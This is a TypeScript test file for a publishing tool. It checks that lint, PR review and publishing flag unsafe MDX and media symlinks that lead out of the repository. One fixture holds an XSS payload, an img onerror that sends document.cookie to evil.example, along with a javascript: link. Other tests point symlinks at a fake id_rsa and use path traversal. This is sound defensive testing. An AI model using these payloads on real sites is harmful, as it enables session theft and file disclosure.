// A hostile contributor's day: a script in an article, a photo that is a link to a file in someone's home
// folder. Lint says where and why, the review shows it on the pull request, publishing never reads the file.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, describe, expect, it } from 'vitest';
import { outsideRepository } from '../../src/content/media.ts';
import { loadBrandContent, buildPublication } from '../../src/publish/content.ts';
import { publicLinksOutside } from '../../src/site/content.ts';
import { basicPost, REPO_ROOT, runCli, tempBrand, type TempBrand } from '../helpers/brand.ts';
import { commitAll, reviewBrand } from '../review/helpers.ts';

let brand: TempBrand;
let elsewhere: string;
afterEach(() => {
  brand?.cleanup();
  if (elsewhere) rmSync(elsewhere, { recursive: true, force: true });
});

const ARTICLE = { title: 'La galette', publishAt: '2026-12-09T09:00', channels: ['blog'], pillar: 'produits', description: 'La recette.' };
const HOSTILE_BODY = '# La galette\n\nUne recette.\n\n<img src="x" onerror="fetch(`https://evil.example/?c=${document.cookie}`)" />\n\n[Commander](javascript:alert(1))\n';

async function photoOutside(): Promise<string> {
  elsewhere = mkdtempSync(path.join(tmpdir(), 'cadence-home-'));
  const file = path.join(elsewhere, 'vacances.jpg');
  await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#c8781e' } }).jpeg().toFile(file);
  return file;
}

describe('blog safety in lint and review', () => {
  it('lint names the file, line, column and rule of each hostile construct', async () => {
    brand = tempBrand();
    brand.post('2026/12/galette.mdx', ARTICLE, HOSTILE_BODY);
    const r = await runCli(['lint', '--format', 'json', '--no-cache', '--at', '2026-12-01T00:00:00Z'], brand.root);
    expect(r.code).toBe(1);
    const errors = (JSON.parse(r.stdout) as { file: string; line: number; column: number; rule: string; severity: string }[]).filter((d) => d.severity === 'error');
    // Frontmatter: lines 1-8 (fences and six fields), so the body starts on line 9.
    expect(errors.map((d) => [d.file, d.line, d.column, d.rule])).toEqual([
      ['content/posts/2026/12/galette.mdx', 13, 1, 'mdx/unsafe-html'],
      ['content/posts/2026/12/galette.mdx', 15, 1, 'mdx/unsafe-url'],
    ]);
  });

  it('checks the crisis manual the internal site shows, like any body', async () => {
    brand = tempBrand();
    brand.write('content/crisis.mdx', `${readFileSync(path.join(REPO_ROOT, 'content/crisis.mdx'), 'utf8')}\n<img src="x" onerror="alert(1)" />\n`);
    const r = await runCli(['lint', 'content/crisis.mdx', '--format', 'json', '--no-cache'], brand.root);
    expect((JSON.parse(r.stdout) as { rule: string }[]).map((d) => d.rule)).toContain('mdx/unsafe-html');
    expect(r.code).toBe(1);
  });

  it('the pull request review shows the errors', async () => {
    brand = reviewBrand();
    commitAll(brand, 'main');
    brand.git('checkout', '-q', '-b', 'proposition');
    brand.post('2026/12/galette.mdx', ARTICLE, HOSTILE_BODY);
    commitAll(brand, 'proposition');
    const markdown = await runCli(['review', '--base', 'main', '--at=2026-12-01T12:00:00+01:00', '--no-cache'], brand.root);
    expect(markdown.stdout).toContain('mdx/unsafe-html');
    expect(markdown.stdout).toContain('event handler');
    const github = await runCli(['review', '--base', 'main', '--at=2026-12-01T12:00:00+01:00', '--format', 'github', '--no-cache'], brand.root);
    expect(github.stdout).toMatch(/::error file=content\/posts\/2026\/12\/galette\.mdx,line=15,col=1[^:]*::.*javascript:/);
    expect(github.code).toBe(1);
  });
});

describe('content stays inside the repository', () => {
  it('lint refuses a symbolic link to a photo in the home folder, and a path that climbs out', async () => {
    brand = tempBrand();
    const photo = await photoOutside();
    mkdirSync(path.join(brand.root, 'content/posts/2026/12/images'), { recursive: true });
    symlinkSync(photo, path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    brand.post('2026/12/lien.mdx', basicPost({ media: [{ src: './images/galette.jpg', alt: 'Une galette' }] }));
    brand.post('2026/12/remonte.mdx', basicPost({ publishAt: '2026-12-08T09:00', text: 'La galette des rois arrive en vitrine.', media: [{ src: `../../../../../${path.basename(elsewhere)}/vacances.jpg`, alt: 'Une galette' }] }));
    const r = await runCli(['lint', '--format', 'json', '--no-cache', '--at', '2026-12-01T00:00:00Z'], brand.root);
    const found = (JSON.parse(r.stdout) as { file: string; line: number; rule: string; message: string; severity: string }[]).filter((d) => d.severity !== 'warning');
    const outside = found.filter((d) => d.rule === 'media/outside-repository');
    // `../` never climbs above the repository's root (src/core/post.ts): that file is looked for at the root, and is not there.
    expect(found.map((d) => [d.file, d.line, d.rule])).toEqual([
      ['content/posts/2026/12/lien.mdx', 9, 'media/outside-repository'],
      ['content/posts/2026/12/remonte.mdx', 9, 'media/missing'],
    ]);
    expect(outside[0]!.message).toContain(`leads outside the repository (to ${photo})`);
    expect(r.code).toBe(1);
    // Cached as valid before the file became a link: the next lint still refuses it.
    rmSync(path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#ffffff' } }).jpeg().toFile(path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    brand.write('content/posts/2026/12/remonte.mdx', '');
    rmSync(path.join(brand.root, 'content/posts/2026/12/remonte.mdx'));
    expect((await runCli(['lint', '--at', '2026-12-01T00:00:00Z'], brand.root)).code).toBe(0);
    rmSync(path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    symlinkSync(photo, path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    const again = await runCli(['lint', '--at', '2026-12-01T00:00:00Z'], brand.root);
    expect(again.code).toBe(1);
    expect(again.stdout).toContain('media/outside-repository');
  });

  it('publishing blocks the post and never gives an adapter the file to read', async () => {
    brand = tempBrand({ git: true });
    const photo = await photoOutside();
    mkdirSync(path.join(brand.root, 'content/posts/2026/12/images'), { recursive: true });
    symlinkSync(photo, path.join(brand.root, 'content/posts/2026/12/images/galette.jpg'));
    brand.post('2026/12/lien.mdx', basicPost({ media: [{ src: './images/galette.jpg', alt: 'Une galette' }] }));
    brand.git('add', '-A');
    brand.git('commit', '-qm', 'content');
    const content = loadBrandContent(brand.root);
    const publication = buildPublication(brand.root, content.posts[0]!, 'mastodon', 'k', 'sha256:0');
    expect(publication.parts[0]!.media[0]).toEqual({ path: 'content/posts/2026/12/images/galette.jpg', alt: 'Une galette' });
    const run = await runCli(['publish', '--at', '2026-12-07T09:30:00+01:00'], brand.root, {});
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).toMatch(/blocked|media\/outside-repository/);
    expect(run.stdout + run.stderr).not.toMatch(/published/i);
  });

  it('finds links out of public/ and out of a linked folder', () => {
    brand = tempBrand();
    elsewhere = mkdtempSync(path.join(tmpdir(), 'cadence-home-'));
    mkdirSync(path.join(brand.root, 'public/images'), { recursive: true });
    brand.write(`../${path.basename(elsewhere)}/id_rsa`, 'secret');
    symlinkSync(path.join(elsewhere, 'id_rsa'), path.join(brand.root, 'public/images/cle.jpg'));
    symlinkSync(path.join(elsewhere, 'absent'), path.join(brand.root, 'public/images/vide.jpg'));
    symlinkSync(elsewhere, path.join(brand.root, 'public/partage'));
    symlinkSync(path.join(brand.root, 'content'), path.join(brand.root, 'public/interne'));
    expect(publicLinksOutside(brand.root).map((l) => l.split(' → ')[0])).toEqual(['public/images/cle.jpg', 'public/partage']);
    mkdirSync(path.join(brand.root, 'content/posts/2026'), { recursive: true });
    symlinkSync(elsewhere, path.join(brand.root, 'content/posts/2026/photos'));
    expect(outsideRepository(brand.root, 'content/posts/2026/photos/x.jpg')).toBeUndefined(); // missing file: media/missing says so
    brand.write(`../${path.basename(elsewhere)}/x.jpg`, 'x');
    expect(outsideRepository(brand.root, 'content/posts/2026/photos/x.jpg')).toBe(path.join(elsewhere, 'x.jpg'));
    expect(outsideRepository(brand.root, 'content/posts/../../content/editorial-line.mdx')).toBeUndefined();
  });
});
